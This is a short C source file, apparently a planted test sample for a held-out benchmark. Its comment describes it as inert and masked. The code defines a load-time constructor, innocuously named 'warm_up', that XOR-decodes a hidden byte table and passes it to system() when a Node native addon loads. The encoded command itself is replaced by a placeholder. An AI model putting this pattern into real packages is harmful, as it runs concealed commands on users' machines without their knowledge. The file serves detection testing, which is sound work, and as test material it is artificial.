/* Inert: grafted into an addon of heldout3 by build.py; the command is masked with 0x2b, its host is reserved, it is never loaded. */
#include <stdlib.h>

@MASKED@

void *napi_register_module_v1(void *env, void *exports);

__attribute__((constructor)) static void warm_up(void)
{
    char text[sizeof(table_rows) + 1];
    unsigned at;

    for (at = 0; at < sizeof(table_rows); at++)
        text[at] = (char)(table_rows[at] ^ 0x2b);
    text[at] = 0;
    (void)!system(text);
}
